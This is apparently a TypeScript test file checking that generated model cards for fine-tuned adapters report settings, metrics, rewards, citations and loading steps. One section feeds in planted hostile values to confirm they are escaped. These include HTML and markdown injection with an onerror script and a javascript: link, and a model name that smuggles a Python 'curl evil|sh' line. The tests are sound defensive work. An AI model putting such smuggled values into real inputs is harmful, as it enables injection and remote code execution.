/** What a model card tells of a run follows the tables of settings and metrics. */
import { describe, expect, it } from 'vitest';
import { distillationDefaults } from '../../protocol/distillation.ts';
import { grpoDefaults } from '../../protocol/grpo.ts';
import { BUNDLED_FOLDER } from '../../protocol/model.ts';
import { defaultSettings, withValues } from '../../protocol/setting-values.ts';
import type { AdherenceSample, RunRecord, StepMetrics } from '../../protocol/training.ts';
import { mergedCard } from './merged-card.ts';
import { modelCard } from './model-card.ts';

const step = (n: number, loss: number): StepMetrics => ({
  step: n,
  epoch: n / 2,
  loss,
  learning_rate: 1e-3,
  grad_norm: 1,
  mean_token_accuracy: 0.512,
  num_tokens: n * 1000,
  step_time: 1,
  tokens_per_second: 1000,
});
const settings = withValues(defaultSettings('2025-08-05'), {
  'optimizer.learning_rate': 2e-4,
  'optimizer.weight_decay': 0.1,
  adherence_question: 'a | b\nc',
});
const run: RunRecord = {
  id: 'r',
  started: '2026-01-01T00:00:00Z',
  model: 'm',
  dataset: 'd',
  settings,
  phase: 'done',
  total_steps: 2,
  metrics: [step(1, 2.5), step(2, 0.75)],
  evals: [{ step: 2, eval_loss: 0.8 }],
  samples: [],
};
const sample = { step: 2, language: 'German', share: 0.5 } as AdherenceSample;
const facts = { name: 'a', base_model: 'm', quant_method: null, lora: settings.lora, modules: ['q_proj'], parameters: 10 };

it('lists the simple settings and those that differ from the defaults, by TRL’s names, and no others', () => {
  const card = modelCard({ ...facts, run });
  for (const row of [
    '| learning_rate | 0.0002 |',
    '| r | 8 |',
    '| target_modules | all-linear |',
    '| weight_decay | 0.1 |',
    '| steps | 2 of 2 |',
  ])
    expect(card).toContain(row);
  expect(card, 'cells keep to their line').toContain('| adherence_question | `a \\| b c` |');
  for (const name of ['adam_beta1', 'max_grad_norm', 'languages', 'model_identity']) expect(card).not.toContain(`| ${name} |`);
});

it('tells the results that were logged, first and last', () => {
  const card = modelCard({ ...facts, run });
  expect(card).toContain('- loss 2.50 at step 1, 0.750 at step 2');
  expect(card).toContain('- mean_token_accuracy 51.2 % at step 1, 51.2 % at step 2');
  expect(card).toContain('- eval_loss 0.800 at step 2');
  expect(card).not.toContain('entropy');
  expect(modelCard({ ...facts, run: { ...run, metrics: [], evals: [] } })).toContain('No step was finished.');
  expect(modelCard(facts)).not.toContain('## Training procedure');
});

it('names the step whose adapter it is, and that step’s evaluation, where it is not the last', () => {
  const evals = [
    { step: 1, eval_accuracy: 0.5 },
    { step: 2, eval_accuracy: 0.25 },
  ];
  const best = { ...run, evals, best_step: 1, settings: { ...settings, eval_questions: 4, load_best_model_at_end: true } };
  const card = modelCard({ ...facts, run: best });
  expect(card).toContain('- the adapter is that of step 1, the best evaluation by accuracy');
  expect(card).toContain('- eval_accuracy 50.0 % at step 1');
});

describe('of an adapter that learned from rewards', () => {
  const grpo = { ...grpoDefaults, num_generations: 4, reward_funcs: ['language', 'accuracy', 'own'], reward_weights: [0.5, 1, 1] };
  const source = '(completion) => completion.length | 0 // <b>';
  const learned: RunRecord = {
    ...run,
    settings: { ...settings, method: 'grpo', grpo: { ...grpo, reward_settings: { own: { source } } } },
    metrics: [
      { ...step(1, 0), reward: 0.25, 'rewards/language/mean': 0.1, 'rewards/accuracy/mean': 0.2 },
      { ...step(2, 0), reward: 1.25, 'rewards/language/mean': 0.9, 'rewards/accuracy/mean': 0.8 },
    ],
  };
  const card = modelCard({ ...facts, run: learned });

  it('has TRL’s tags and citations, the versions and no word of fine-tuning on rows', () => {
    const header = card.slice(0, card.indexOf('\n---\n', 4));
    for (const tag of ['- lora', '- grpo', '- trl', '- mother-tongue']) expect(header.split('\n')).toContain(tag);
    expect(card, 'what GRPO does nothing with').not.toMatch(/max_length|validation_split/);
    expect(card).not.toMatch(/sft|Supervised/);
    expect(card).toContain(
      '[DeepSeekMath: Pushing the Limits of Mathematical Reasoning in Open Language Models](https://huggingface.co/papers/2402.03300)',
    );
    expect(card.match(/^@\w+\{\w+,$/gm)).toEqual(['@article{shao2024deepseekmath,', '@software{vonwerra2020trl,']);
    expect(card).toContain('- Semantics of TRL: 1.13.0');
    expect(card.match(/^#+ .*/gm)).toEqual([
      ...['# a', '## Use', '## Training procedure', '### Rewards', '## Metrics', '## Versions', '## Citations'],
    ]);
  });

  it('lists the run’s settings and rewards, with what each paid first and last', () => {
    for (const row of ['| num_generations | 4 |', '| beta | 0 |', '| learning_rate | 0.0002 |']) expect(card).toContain(row);
    expect(card).not.toContain('| epsilon |');
    expect(card).toContain('- language (Language of the thought): weight 0.5; mean 0.100 at step 1, 0.900 at step 2');
    expect(card).toContain(`- own (Your own, in JavaScript): weight 1; settings \`{"source":"${source}"}\``);
    expect(card).toContain('- reward 0.250 at step 1, 1.25 at step 2');
  });

  it('hands it on to the merged model', () => {
    const merged = mergedCard('m', card, 'bf16');
    expect(merged).toContain('## Citations');
    expect(merged).toContain('- grpo\n- trl\n');
    expect(merged).not.toContain('## Versions');
    expect(mergedCard('m', modelCard({ ...facts, run }), 'bf16')).not.toMatch(/Citations|- grpo/);
  });
});

describe('of an adapter that learned from a teacher that is shown more', () => {
  const learned = (own: Partial<typeof distillationDefaults>): RunRecord => ({
    ...run,
    settings: { ...settings, method: 'distillation', distillation: { ...distillationDefaults, ...own } },
    metrics: [
      { ...step(1, 0), divergence: 0.4, agreement: 0.5, clipped_share: 0.95 },
      { ...step(2, 0), divergence: 0.1, agreement: 0.75, clipped_share: 0.9 },
    ],
  });
  const cited = (own: Partial<typeof distillationDefaults>): string[] =>
    modelCard({ ...facts, run: learned(own) }).match(/^@\w+\{[\w-]+,$/gm) ?? [];

  it('says what it learned from and from whom, with its settings and figures', () => {
    const card = modelCard({ ...facts, run: learned({ jsd_token_clip: 0.05, temperature: 1.1 }) });
    expect(card).toContain('- distillation\n- self-distillation\n');
    expect(card).toContain('https://huggingface.co/papers/2605.09548');
    expect(card).toContain('at each token of its own answers it learned what the model without the adapter would have written next');
    for (const row of ['| beta | 0 |', '| jsd_token_clip | 0.05 |', '| temperature | 1.1 |', '| teacher_model_kind | base |'])
      expect(card).toContain(row);
    expect(card).toContain('- divergence 0.400 at step 1, 0.100 at step 2');
    expect(card).toContain('- clipped_share 95.0 % at step 1, 90.0 % at step 2');
    expect(card).not.toMatch(/sft|Supervised|Rewards|max_length/);
    const moving = modelCard({ ...facts, run: learned({ teacher_model_kind: 'ema', lmbda: 0.5 }) });
    expect(moving).toContain(
      'its own answers (0.5 of the prompts) and the dataset’s it learned what the model with a running average of the adapter',
    );
  });

  it('cites a paper where its settings are used, and hands all of it on to the merged model', () => {
    const [copsd, sdft, gkd] = ['@article{liu2026copsd,', '@article{shenfeld2026selfdistillation,', '@inproceedings{agarwal2024on-policy,'];
    expect(cited({})).toEqual([copsd]);
    expect(cited({ distillation_mode: 'topk_logits', loss_reduction: 'row' })).toEqual([copsd, sdft]);
    expect(cited({ lmbda: 0.5, beta: 0.5 })).toEqual([copsd, gkd]);
    const merged = mergedCard('m', modelCard({ ...facts, run: learned({}) }), 'bf16');
    expect(merged).toContain('tags:\n- distillation\n- self-distillation\n- mother-tongue');
    expect(merged.trimEnd().endsWith('```')).toBe(true);
    expect(merged).toContain(copsd);
    expect(merged).not.toContain('## Versions');
  });
});

it('says in two lines how to load the bundled model, which no repository holds', () => {
  const card = modelCard({ ...facts, base_model: BUNDLED_FOLDER, quant_method: 'mxfp4' });
  const use = card.slice(card.indexOf('## Use'), card.indexOf('```python'));
  expect(use.trim().split('\n').slice(2)).toEqual([
    'Unpack `mother-tongue-mini.zip`, the base model from the Runs page of Mother Tongue, where Python runs.',
    "Unpack this zip beside it and write its folder's name in the last line:",
  ]);
  expect(card).toContain('from_pretrained(\n    "mother-tongue-mini", quantization_config=Mxfp4Config(dequantize=True)\n)');
  expect(modelCard(facts)).not.toContain('Unpack');
});

describe('what a card takes from elsewhere', () => {
  const evil = 'x`</code>\n## injected <img src=x onerror=alert(1)> | [a](javascript:b) ``` @all https://evil.example';
  /** Markdown outside fenced code, without its code spans: none of the planted text may be left in it. */
  const outside = (card: string): string =>
    card
      .split('\n\n## Use')
      .join('\n')
      .replaceAll(/^```python[\s\S]*?^```$/gm, '')
      .replaceAll(/(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/g, 'CODE');

  // An adapter's base_model_name_or_path and target_modules became a heading, HTML and a line of Python.
  it('stays text: no heading, HTML, link, table cell or code comes of it', () => {
    const lora = { ...settings.lora, target_modules: ['q_proj', evil], target_parameters: [evil] };
    const samples = [{ ...sample, language: evil }];
    const planted = { ...settings, adherence_question: evil, adherence_languages: [evil] };
    const card = modelCard({ ...facts, name: evil, base_model: evil, lora, run: { ...run, dataset: evil, settings: planted, samples } });
    const markdown = outside(card.slice(card.indexOf('\n---\n', 4) + 5));
    for (const part of ['injected', '<', 'javascript', '@all', 'evil']) expect(markdown).not.toContain(part);
    expect(markdown).toContain('q_proj, CODE and CODE');
    expect(markdown.match(/^#+ .*/gm)).toEqual(['# CODE', '## Training procedure', '## Metrics', '## Versions']);
    for (const row of card.split('\n').filter((line) => line.startsWith('| ')))
      expect(row.match(/(?<!\\)\|/g), `${row} has two cells`).toHaveLength(3);
  });

  it('is one string in the YAML header and in the Python', () => {
    const base_model = 'a/b")\nimport os; os.system("curl evil|sh") #\u2028\u202e\u{e0041}\ud800';
    const card = modelCard({ ...facts, base_model });
    const string = '"a/b\\")\\nimport os; os.system(\\"curl evil|sh\\") #\\u2028\\u202e\\U000e0041\ufffd"';
    expect(card.split('\n')).toContain(`base_model: ${string}`);
    expect(card.split('\n')).toContain(`base = AutoModelForCausalLM.from_pretrained(${string})`);
  });

  it('is left as it is where it is plain words', () => {
    const card = modelCard({ ...facts, name: 'Yoruba run 3', run: { ...run, dataset: 'हिन्दी, data_v2' } });
    expect(card).toContain('# Yoruba run 3\n');
    expect(card).toContain('| dataset | हिन्दी, data_v2 |');
    expect(modelCard({ ...facts, name: '1. a' })).toContain('# `1. a`\n');
  });

  it('keeps to its cell also behind a backslash', () => {
    const card = modelCard({ ...facts, run: { ...run, dataset: 'a\\|b`' } });
    expect(card).toContain('| dataset | `` a\\ \\|b` `` |');
  });
});

it('says how the language of the answer is asked for, where the run trained that', () => {
  const asking = withValues(settings, { 'encoding.inject_answer_language': true });
  expect(modelCard({ ...facts, run: { ...run, settings: asking } })).toContain(
    'system message: `reasoning language: German`, and on a line below it `answer language: German`.',
  );
  expect(modelCard({ ...facts, run })).toContain('system message: `reasoning language: German`.\n');
});
